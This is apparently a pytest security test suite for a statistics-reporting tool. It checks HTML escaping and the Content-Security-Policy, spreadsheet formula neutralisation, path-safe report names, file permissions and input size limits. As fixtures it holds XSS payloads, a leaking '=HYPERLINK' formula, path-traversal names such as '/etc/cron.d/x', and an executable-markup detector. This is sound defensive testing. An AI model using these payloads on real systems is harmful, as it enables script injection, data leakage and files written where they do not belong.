"""Safe to share: text from the data never runs in a reader's browser or spreadsheet, reports go
only where they are named, files are readable by others as the umask says, and input too large
for memory or for a float is refused with the reason.

Fixtures: ``tests/fixtures/security/markup_raw/`` (every text field of every table holds markup:
``<script>``, event handlers, ``<svg onload>``, ``javascript:`` links, ``</title>``) and
``formula_raw/`` (text that a spreadsheet would take for a formula: ``=HYPERLINK(…)``, ``+…``,
``-…``, ``@…``, ``#N/A``, and text already starting with ``'``).
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import stat
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import indicators
from indicators.atomic import check_inside, write_text_atomically
from indicators.batch.index import INDEX_POLICY, write_index
from indicators.batch.index import SCRIPT as INDEX_SCRIPT
from indicators.batch.jobs import NAME_FIX, BatchError, Job, expand, name_problem
from indicators.batch.kernels import JobResult
from indicators.batch.runner import run_jobs, write_result
from indicators.cli import main
from indicators.errors import DataValidationError, ImportRejectedError, OutputPathError
from indicators.intake.export import export_data
from indicators.intake.importer import import_files
from indicators.intake.template import write_template
from indicators.reporting.html_export import CONTENT_SECURITY_POLICY, CSP_META
from indicators.textsafety import neutralise, restore

from .browser import check_offline_html
from .conftest import FIXTURES, snapshot

SECURITY = FIXTURES / "security"
STAMP = "2026-01-01T00:00:00+00:00"


def _data(tmp: Path, fixture: str) -> Path:
    root = tmp / "data"
    shutil.copytree(SECURITY / fixture, root / "raw")
    indicators.build(root)
    return root


# -- untrusted text in HTML -------------------------------------------------------------------


class _ExecutableMarkup(HTMLParser):
    """What a browser could run in a page: script-bearing elements, event-handler attributes,
    ``javascript:`` URLs; and the Content-Security-Policy metas, in order."""

    RUNS = ("script", "iframe", "frame", "object", "embed", "base", "applet")
    URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster")

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.csp: list[str] = []
        self.text: list[str] = []

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.RUNS:
            self.found.append(f"<{tag}>")
        values = dict(attrs)
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "content-security-policy":
            self.csp.append(values.get("content") or "")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            compact = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in self.URL_ATTRIBUTES and compact.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value}>")


def _parse(page: str) -> _ExecutableMarkup:
    parser = _ExecutableMarkup()
    parser.feed(page)
    parser.close()
    return parser


@pytest.fixture(scope="module")
def markup_reports(tmp_path_factory) -> tuple[Path, object]:
    """All five report kinds (Chinese and English) and the index, from the markup table, plus a
    report that fails with a parameter value holding markup (its error goes into the index)."""
    tmp = tmp_path_factory.mktemp("markup")
    data = _data(tmp, "markup_raw")
    jobs = [
        Job("trend", "trend_report.ipynb", {"indicator": "gdp", "region": "wcna", "language": "zh"}),
        Job("trend_count", "trend_report.ipynb", {"indicator": "high_tech_enterprises", "language": "en"}),
        Job("gap", "target_gap_report.ipynb", {"plan": "green_2023_2025", "as_of": "2024-12-31", "language": "zh"}),
        Job("overview", "overview.ipynb", {"region": "wcna", "language": "en"}),
        Job("peers", "peer_comparison.ipynb", {"indicators": "gdp", "language": "zh"}),
        Job("audit", "data_audit.ipynb", {"language": "en"}),
        Job("fails", "trend_report.ipynb", {"indicator": "<img src=x onerror=alert('parameter')>"}),
    ]
    out = tmp / "reports"
    summary = run_jobs(jobs, out_dir=out, data_dir=data, generated_at=STAMP, stream=io.StringIO())
    return out, summary


def test_the_markup_table_makes_every_report(markup_reports):
    _, summary = markup_reports
    status = {o.job.name: o.status for o in summary.outcomes}
    assert status == {name: "ok" for name in ("trend", "trend_count", "gap", "overview", "peers", "audit")} | {
        "fails": "failed"
    }
    assert "<img src=x onerror=alert('parameter')>" in summary.outcomes[-1].error


def test_no_report_and_no_index_holds_executable_markup(markup_reports):
    out, _ = markup_reports
    pages = sorted(out.glob("*.html"))
    assert [p.stem for p in pages] == ["audit", "gap", "index", "overview", "peers", "trend", "trend_count"]
    for page in pages:
        text = page.read_text(encoding="utf-8")
        if page.name == "index.html":  # its own pinned script (search, filters, sorting), once, and nothing else
            assert _parse(text).found == ["<script>"] and text.count("<script>") == 1
            assert f"<script>{INDEX_SCRIPT}</script>" in text
        else:
            assert _parse(text).found == [], page.name
        assert "alert(" in text, page.name  # the data reached the page, as text


@pytest.mark.parametrize(
    ("page", "shown"),
    [
        ("audit", "<script>alert('sources.title')</script>统计公报"),  # a source title in a Styler table
        ("audit", "<img src=x onerror=alert('sources.publisher')>"),
        ("trend", "</title><script>alert('regions.name_zh3')</script>新区"),  # in the title and <title>
        ("trend", "javascript:alert('sources.address')"),  # a source note's address, as text
        ("gap", "<script>alert('targets.quote')</script>达到1500家"),  # a target's quote
        ("overview", "Qingdao<script>alert('regions.name_en2')</script>"),  # a column header
        ("peers", "浦东<img src=x onerror=alert('regions.name_zh4')>"),
        ("index", "<img src=x onerror=alert('parameter')>"),  # the failed report's error and parameters
    ],
)
def test_text_from_the_data_is_shown_as_written(markup_reports, page, shown):
    out, _ = markup_reports
    assert shown in "".join(_parse((out / f"{page}.html").read_text(encoding="utf-8")).text)


def test_every_report_and_the_index_carry_a_content_security_policy_first(markup_reports):
    out, _ = markup_reports
    assert "script-src 'none'" in CONTENT_SECURITY_POLICY and "default-src 'none'" in CONTENT_SECURITY_POLICY
    # the index runs one script of its own, allowed by its hash (tests/test_index.py), and nothing else
    assert CONTENT_SECURITY_POLICY.replace("script-src 'none'", INDEX_POLICY.split("; ")[1]) == INDEX_POLICY
    for page in out.glob("*.html"):
        parsed = _parse(page.read_text(encoding="utf-8"))
        assert parsed.csp == [INDEX_POLICY if page.name == "index.html" else CONTENT_SECURITY_POLICY], page.name
        head = page.read_text(encoding="utf-8").split("</head>")[0]
        assert head.index("Content-Security-Policy") < head.index("<style"), page.name  # before anything it governs


@pytest.mark.browser
def test_chromium_opening_the_reports_sees_no_dialog_and_no_error(markup_reports, chromium):
    out, _ = markup_reports
    for page in sorted(out.glob("*.html")):
        check = check_offline_html(page, browser=chromium)
        assert check.dialogs == [], page.name
        assert check.console_errors == [], page.name  # a blocked script would be reported here
        assert check.external_requests == [] and check.broken_images == [], page.name


@pytest.mark.browser
def test_the_policy_stops_a_script_that_got_into_a_page(chromium, tmp_path):
    """The control: the harness sees a script run, and the reports' policy stops it."""
    page = (FIXTURES / "html" / "runs_script.html").read_text(encoding="utf-8")
    assert check_offline_html(FIXTURES / "html" / "runs_script.html", browser=chromium).dialogs
    guarded = tmp_path / "guarded.html"
    guarded.write_text(page.replace('<meta charset="utf-8">', f'<meta charset="utf-8">{CSP_META}'), encoding="utf-8")
    check = check_offline_html(guarded, browser=chromium)
    assert check.dialogs == []
    assert any("Content Security Policy" in e for e in check.console_errors), check.console_errors


def test_tables_escape_cells_and_headers_but_not_the_report_s_own_html():
    from markupsafe import Markup

    from indicators.reporting.blocks import Cell, Table

    table = Table(["<b>head</b>", "chart"])
    table.add(["<script>alert(1)</script>", Cell("", Markup('<img alt="x" src="data:,">'))])
    page = table._repr_html_()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>" not in page
    assert "&lt;b&gt;head&lt;/b&gt;" in page
    assert '<img alt="x" src="data:,">' in page  # built by the report itself, from escaped parts


# -- spreadsheet formula injection ------------------------------------------------------------

TRIGGERS = "=+-@\t\r\n"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://example.org","x")', '\'=HYPERLINK("http://example.org","x")'),
        ("+1 more", "'+1 more"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("'=already", "''=already"),  # one more, so that the import takes exactly one off
        ("-3.2", "-3.2"),  # a number stays a number
        ("+5", "+5"),
        ("O'Brien", "O'Brien"),
        ("全区 4691.85 亿元", "全区 4691.85 亿元"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_evaluate_gets_the_neutralising_prefix(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


@given(st.text())
def test_the_prefix_is_taken_off_exactly_as_it_was_put_on(text):
    assert restore(neutralise(text)) == text


@given(st.text(alphabet=st.sampled_from([*TRIGGERS, "'", "1", ".", "e", "a", " "]), min_size=1))
def test_no_neutralised_text_starts_a_formula_unless_it_is_a_plain_number(text):
    out = neutralise(text)
    if out[0] in TRIGGERS:
        float(out)  # a plain number, harmless and kept as a number


@pytest.fixture(scope="module")
def formula_data(tmp_path_factory) -> Path:
    return _data(tmp_path_factory.mktemp("formulas"), "formula_raw")


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return "".join(book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/"))


def test_an_exported_workbook_holds_text_as_string_cells_and_numbers_as_numbers(formula_data, tmp_path):
    path = export_data("xlsx", out=tmp_path / "export.xlsx", data_dir=formula_data).path
    assert "<f>" not in _sheet_xml(path) and 't="e"' not in _sheet_xml(path)  # no formula, no error value
    book = openpyxl.load_workbook(path)
    sheet = book["observations"]
    header = [c.value for c in sheet[1]]
    cells = {(r[header.index("period")].value, r[header.index("measure")].value): r for r in sheet.iter_rows(min_row=2)}
    quote = cells[("2022", "level")][header.index("quote")]
    assert quote.value == '=HYPERLINK("http://example.org/?leak="&A1,"click")' and quote.data_type == "s"
    assert cells[("2024H1", "level")][header.index("quote")].value == "#N/A"
    growth = cells[("2022", "yoy_growth")][header.index("value")]
    assert growth.value == -3.2 and growth.data_type == "n"
    sources = book["sources"]
    assert [c.value for c in sources[2]][1].startswith("=HYPERLINK") and sources.cell(2, 2).data_type == "s"


def test_an_exported_csv_neutralises_text_and_keeps_numbers(formula_data, tmp_path):
    folder = export_data("csv", out=tmp_path / "export_csv", data_dir=formula_data).path
    with open(folder / "observations.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by = {(r["period"], r["measure"], r["status"]): r for r in rows}
    assert by[("2022", "level", "reported")]["quote"] == '\'=HYPERLINK("http://example.org/?leak="&A1,"click")'
    assert by[("2024Q1", "level", "reported")]["quote"] == "'+119.65 billion yuan"
    assert by[("2024Q1", "share", "reported")]["quote"] == "'@accounts for 31.96 percent"
    assert by[("2024H1", "level", "reported")]["note"] == "''@already quoted"
    assert by[("2022", "yoy_growth", "reported")]["value"] == "-3.2"  # numbers stay numbers
    assert by[("2022", "yoy_growth", "reported")]["note"] == "-3.2"
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in TRIGGERS or re.fullmatch(r"[+-]?[\d.]+", value), value


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_importing_an_export_gives_the_same_table_back(formula_data, tmp_path, fmt):
    out = tmp_path / ("export.xlsx" if fmt == "xlsx" else "export_csv")
    exported = export_data(fmt, out=out, data_dir=formula_data).path
    raw = snapshot(formula_data / "raw")
    again = import_files(exported, data_dir=formula_data)  # a quote that differed would be refused
    assert again.n_added == 0 and again.already_present["observations"] == 5
    assert again.already_present["sources"] == 2 and again.already_present["indicators"] == 2
    assert snapshot(formula_data / "raw") == raw


def test_the_template_writes_catalog_names_as_text(formula_data, tmp_path):
    book = openpyxl.load_workbook(write_template(tmp_path / "template.xlsx", data_dir=formula_data))
    names = {row[1].value: row[2] for row in book["valid_ids"].iter_rows(min_row=2)}
    assert names["gdp"].value == "=地区生产总值" and names["gdp"].data_type == "s"
    assert "<f>" not in _sheet_xml(tmp_path / "template.xlsx")
    folder = write_template(tmp_path / "template_csv", format="csv", data_dir=formula_data)
    assert "gdp,'=地区生产总值,'+Gross domestic product" in (folder / "valid_ids.csv").read_text(encoding="utf-8-sig")


# -- output paths ------------------------------------------------------------------------------


def _batch(name: str, **entry) -> dict:
    return {"jobs": [{"notebook": "overview.ipynb", "name": name, **entry}]}


@pytest.mark.parametrize(
    ("name", "entry", "key"),
    [
        ("../outside", {}, "name"),
        ("/etc/cron.d/x", {}, "name"),
        ("a\\b", {}, "name"),
        ("..", {}, "name"),
        (".hidden", {}, "name"),
        ("  ", {}, "name"),
        ("index", {}, "name"),  # would overwrite the batch's own index.html
        ("x.failed", {}, "name"),
        ("overview_{region}", {"parameters": {"region": "../../../tmp/x"}}, "parameters.region"),
        ("overview_{region}", {"matrix": {"region": ["wcna", "a/b"]}}, "matrix.region"),
        ("{region}", {"matrix": {"region": [".."]}}, "matrix.region"),
        ("overview_{region} copy", {"parameters": {"region": "wcna"}}, "name"),
    ],
)
def test_a_report_name_that_is_not_a_plain_file_name_is_refused_before_anything_runs(name, entry, key):
    with pytest.raises(BatchError) as err:
        expand(_batch(name, **entry), source="reports.yaml")
    assert [(p[1], p[3]) for p in err.value.problems] == [(key, NAME_FIX)], err.value
    assert "nothing was run" in str(err.value) and "unsafe" in str(err.value)


def test_plain_names_in_any_script_are_accepted():
    for name in ("trend_gdp_wcna", "趋势_地区生产总值-2024.v1", "Übersicht_2"):
        assert name_problem(name) is None
    assert name_problem("") == "it is empty"
    (job,) = expand(_batch("总览_{region}", parameters={"region": "wcna"}), source="reports.yaml")
    assert job.name == "总览_wcna"


def test_report_name_on_the_command_line_is_checked_too(shipped_data, tmp_path, capsys):
    out = tmp_path / "reports"
    code = main(["--data-dir", str(shipped_data), "report", "audit", "--name", "../../escaped", "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and "key 'name'" in err and "Fix: use only letters" in err and "Traceback" not in err
    assert not out.exists() and not (tmp_path / "escaped.html").exists()


def test_every_write_is_checked_to_stay_inside_the_output_folder(tmp_path):
    out = tmp_path / "reports"
    result = JobResult("x", True, 0.1, "{}", "<html></html>", "x")
    with pytest.raises(OutputPathError, match="not inside the output folder"):
        write_result(out, Job("../escaped", "overview.ipynb"), result, {}, "", "v", STAMP)
    assert not (tmp_path / "escaped.html").exists() and not list(tmp_path.rglob("*.tmp"))
    (tmp_path / "elsewhere").mkdir()
    out.mkdir()
    (out / "link").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(OutputPathError):
        check_inside(out / "link" / "x.html", out)  # a folder that leads outside, followed
    assert check_inside(out / "x.html", out) == out / "x.html"


# -- files others can read ------------------------------------------------------------------------


@pytest.fixture(params=[0o022, 0o077], ids=["umask022", "umask077"])
def umask(request):
    old = os.umask(request.param)
    try:
        yield request.param
    finally:
        os.umask(old)


def test_every_file_the_project_writes_has_the_modes_the_umask_gives(umask, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(FIXTURES / "raw_minimal", data / "raw")
    indicators.build(data)
    export_data("xlsx", out=tmp_path / "exports" / "table.xlsx", data_dir=data)
    export_data("csv", out=tmp_path / "exports" / "table_csv", data_dir=data)
    write_template(tmp_path / "exports" / "template.xlsx", data_dir=data)
    import_files(FIXTURES / "import" / "figures_as_typed.csv", source="daily_2024", data_dir=data)
    out = tmp_path / "reports"
    manifest: dict = {}
    ok = JobResult("good", True, 0.1, "{}", "<html></html>", "good")
    bad = JobResult("bad", False, 0.1, "{}", error="boom")
    for result in (ok, bad):
        write_result(out, Job(result.name, "overview.ipynb"), result, manifest, "p", "v", STAMP)
    write_index(out, manifest, data_version="v")
    write_text_atomically(out / ".manifest.json", "{}", within=out)

    written = [
        path
        for root in (data / "processed", data / "raw" / "batches", tmp_path / "exports", out)
        for path in (root, *root.rglob("*"))
    ]
    names = {p.name for p in written}
    assert {"observations.parquet", "version.json", "table.xlsx", "table_csv", "template.xlsx", "batch.json"} <= names
    assert {"good.html", "good.ipynb", "bad.failed.ipynb", "index.html", ".manifest.json"} <= names
    for path in written:
        expected = (0o777 if path.is_dir() else 0o666) & ~umask  # 0644 / 0755 under 022, 0600 / 0700 under 077
        assert stat.S_IMODE(path.stat().st_mode) == expected, (path, oct(stat.S_IMODE(path.stat().st_mode)))


# -- sizes and numbers ---------------------------------------------------------------------------


def _with_quote(data_dir: Path, quote: str) -> None:
    path = data_dir / "raw" / "observations.csv"
    with open(path, "a", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerow(
            [
                "gdp",
                "wcna",
                "2021",
                "level",
                "",
                "4400",
                "亿元",
                "current",
                "exact",
                "reported",
                "bulletin_2022",
                quote,
                "",
            ]
        )


def test_a_field_longer_than_python_s_default_limit_is_read(data_dir):
    _with_quote(data_dir, "很长的引文" * 60_000)  # 300,000 characters; the csv module stops at 131,072
    assert indicators.validate(data_dir) == []


def test_a_field_over_the_limit_is_refused_with_file_line_and_column(data_dir, monkeypatch):
    monkeypatch.setenv("INDICATORS_MAX_FIELD_CHARS", "1000")
    _with_quote(data_dir, "x" * 1001)
    (problem,) = indicators.validate(data_dir)
    assert (problem.file, problem.row, problem.column) == ("observations.csv", 7, "quote")
    assert "1,001 characters long, over the limit of 1,000" in problem.message
    assert "INDICATORS_MAX_FIELD_CHARS" in problem.fix


def test_an_imported_csv_with_a_field_over_the_limit_is_refused(data_dir, tmp_path, monkeypatch):
    indicators.build(data_dir)
    monkeypatch.setenv("INDICATORS_MAX_FIELD_CHARS", "500")
    path = tmp_path / "observations.csv"
    text = (FIXTURES / "import" / "figures_as_typed.csv").read_text(encoding="utf-8")
    path.write_text(text.rstrip("\n") + "\n" + "gdp,wcna,2019,level,,1,亿元,current,,reported,," + "y" * 600 + ",\n")
    with pytest.raises(ImportRejectedError) as err:
        import_files(path, source="daily_2024", data_dir=data_dir)
    (problem,) = err.value.problems
    assert (problem.file, problem.column, problem.row_label) == ("observations.csv", "quote", "row")
    assert "over the limit of 500" in problem.message


def _stray_cell_workbook(path: Path, row: int | None, column: int) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "observations"
    sheet.append(["indicator_id", "region_id", "period", "measure", "value", "unit", "status", "quote"])
    sheet.append(["gdp", "wcna", "2019", "level", "1", "亿元", "reported", "fixture"])
    if row is not None:
        sheet.cell(row=row, column=column, value="stray")
    book.save(path)
    return path


def test_a_small_workbook_declaring_a_million_rows_is_refused_without_reading_them(built, tmp_path):
    import tracemalloc

    path = _stray_cell_workbook(tmp_path / "stray.xlsx", row=1_000_000, column=1)
    assert path.stat().st_size < 8_000
    assert 'ref="A1:H1000000"' in _sheet_xml(path)  # the dimension the stray cell declares
    tracemalloc.start()
    try:
        with pytest.raises(ImportRejectedError) as err:
            import_files(path, source="daily_2024", data_dir=built)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    (problem,) = err.value.problems
    assert problem.file == "stray.xlsx:observations" and "past row 100,000" in problem.message
    assert "INDICATORS_MAX_SHEET_ROWS" in problem.fix
    assert peak < 50_000_000  # streamed: nowhere near a cell per row


def test_a_stray_cell_far_to_the_right_is_refused(built, tmp_path):
    path = _stray_cell_workbook(tmp_path / "wide.xlsx", row=3, column=16_000)
    with pytest.raises(ImportRejectedError) as err:
        import_files(path, source="daily_2024", data_dir=built)
    (problem,) = err.value.problems
    assert problem.row == 3 and "16,000 columns, over the limit of 200" in problem.message


def test_a_workbook_whose_declared_size_is_wrong_is_read_as_it_is(built, tmp_path):
    path = _stray_cell_workbook(tmp_path / "lying.xlsx", row=None, column=1)
    with zipfile.ZipFile(path) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    name = "xl/worksheets/sheet1.xml"
    parts[name] = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', parts[name])
    with zipfile.ZipFile(path, "w") as dst:
        for n, content in parts.items():
            dst.writestr(n, content)
    result = import_files(path, source="daily_2024", data_dir=built, dry_run=True)
    assert result.added == {"observations": 1}


@pytest.fixture
def built(data_dir: Path) -> Path:
    indicators.build(data_dir)
    return data_dir


def test_a_table_with_a_header_and_no_rows_is_refused_naming_the_file(data_dir):
    path = data_dir / "raw" / "targets.csv"
    path.write_text(path.read_text(encoding="utf-8").splitlines()[0] + "\n\n", encoding="utf-8")
    problems = indicators.validate(data_dir)
    assert any(p.file == "targets.csv" and p.message == "the table has a header but no rows" for p in problems)
    with pytest.raises(DataValidationError, match=r"targets\.csv: the table has a header but no rows"):
        indicators.build(data_dir)


def test_an_import_with_headers_and_no_rows_is_refused_naming_the_file(built, tmp_path):
    path = tmp_path / "observations.csv"
    path.write_text((FIXTURES / "import" / "figures_as_typed.csv").read_text(encoding="utf-8").splitlines()[0] + "\n")
    with pytest.raises(ImportRejectedError) as err:
        import_files(path, source="daily_2024", data_dir=built)
    (problem,) = err.value.problems
    assert problem.file == "observations.csv" and "a header but no rows" in problem.message


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("9" * 401, "401 significant digits, more than the 15 a float holds"),
        ("1" + "0" * 400, "outside the range of a float"),  # would be read as infinity
        ("0." + "0" * 400 + "1", "outside the range of a float"),  # would be read as zero
        ("1234567.123456789", "16 significant digits"),
    ],
)
def test_a_number_a_float_cannot_hold_is_refused(data_dir, value, words):
    path = data_dir / "raw" / "observations.csv"
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(f"gdp,wcna,2021,level,,{value},亿元,current,exact,reported,bulletin_2022,fixture,\n")
    (problem,) = indicators.validate(data_dir)
    assert (problem.row, problem.column) == (7, "value") and words in problem.message
    assert "15 significant digits" in problem.fix


def test_numbers_a_float_holds_are_kept(data_dir):
    path = data_dir / "raw" / "observations.csv"
    with open(path, "a", encoding="utf-8") as handle:
        handle.write("gdp,wcna,2021,level,,123456789012345,亿元,current,exact,reported,bulletin_2022,fixture,\n")
        handle.write("gdp,wcna,2020,level,,100000000000000000000,亿元,current,exact,reported,bulletin_2022,f,\n")
    assert indicators.validate(data_dir) == []
